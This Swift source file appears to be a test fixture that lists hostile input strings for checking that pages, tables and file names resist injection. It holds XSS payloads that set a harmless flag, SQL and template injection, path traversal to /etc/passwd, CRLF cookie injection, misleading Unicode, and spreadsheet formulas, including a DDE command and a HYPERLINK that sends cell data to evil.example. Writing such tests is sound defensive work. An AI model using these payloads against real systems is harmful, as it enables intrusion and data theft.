/// What somebody might type into any field to break a page, a table or a name of a file. Whatever of it ran in a browser would
/// set `window.xss`.
package enum HostileWords {
    package static let all = markup + addresses + places + invisible + formulas

    /// Tags, attributes and what ends one of them early.
    package static let markup = [
        "<script>window.xss=1</script>", "<SCRIPT SRC=data:text/javascript,window.xss=1></SCRIPT>",
        "<img src=x onerror=window.xss=1>", "<svg onload=window.xss=1>", "<svg><script>window.xss=1</script></svg>",
        "<body onpageshow=window.xss=1>", "<iframe srcdoc=\"<script>parent.xss=1</script>\">",
        "<details open ontoggle=window.xss=1>x</details>", "<video><source onerror=window.xss=1></video>",
        "<input autofocus onfocus=window.xss=1>", "<marquee onstart=window.xss=1>x</marquee>",
        "\"><img src=x onerror=window.xss=1>", "'><img src=x onerror=window.xss=1>", "\" onmouseover=\"window.xss=1",
        "' autofocus onfocus='window.xss=1", "` onclick=`window.xss=1", "</title><script>window.xss=1</script>",
        "</textarea><script>window.xss=1</script>", "</style><script>window.xss=1</script>",
        "--><script>window.xss=1</script>", "]]><script>window.xss=1</script>", "<!--", "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=0;url=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.xss=1>",
        "&lt;script&gt;window.xss=1&lt;/script&gt;",
        "&#60;img src=x onerror=window.xss=1&#62;", "<scr<script>ipt>window.xss=1</scr</script>ipt>",
        "<img/src=x/onerror=window.xss=1//", "＜script＞window.xss=1＜/script＞",
    ]

    package static let addresses = [
        "javascript:window.xss=1", "JaVaScRiPt:window.xss=1", "java\tscript:window.xss=1",
        "data:text/html,<script>parent.xss=1</script>", "//evil.example/",
        "https://evil.example/\" onclick=\"window.xss=1",
    ]

    /// What stands for something else in texts, scripts, styles and queries.
    package static let places = [
        "{event}", "{{constructor.constructor('window.xss=1')()}}", "${window.xss=1}", "#{7*7}", "<%= 7*7 %>", "$&$`$'",
        "__proto__", "'; DROP TABLE session; --", "\\\"};window.xss=1;//", "\\u003cscript\\u003ewindow.xss=1",
        "}body{background:red", "../../../../etc/passwd", "..\\..\\win.ini", "%0d%0aSet-Cookie:%20x=1",
        "x\r\nSet-Cookie: boothkit_operator=1\r\n\r\n<script>window.xss=1</script>",
        "data: x\n\nevent: changes\ndata: {}\n\n",
    ]

    /// What is not seen, or shows something in another order than it is.
    package static let invisible = [
        "photo\u{202E}gpj.exe", "\u{2066}<script>window.xss=1</script>\u{2069}", "a\u{0}<script>window.xss=1</script>",
        "\u{FEFF}=1+1", "\u{200B}\u{200D}\u{2060}", "a\u{2028}window.xss=1\u{2029}b", "\u{1B}[31mred\u{1B}[0m\u{7}",
        String(repeating: "e\u{301}\u{302}\u{303}\u{304}", count: 60), String(repeating: "W", count: 400),
        "\u{FFFD}\u{FFFE}",
    ]

    /// What spreadsheets would compute.
    package static let formulas = [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+\u{301}1", "\"=1+1", ";=1+1", ",=1+1", "a\"b,c;d\r\ne",
    ]
}
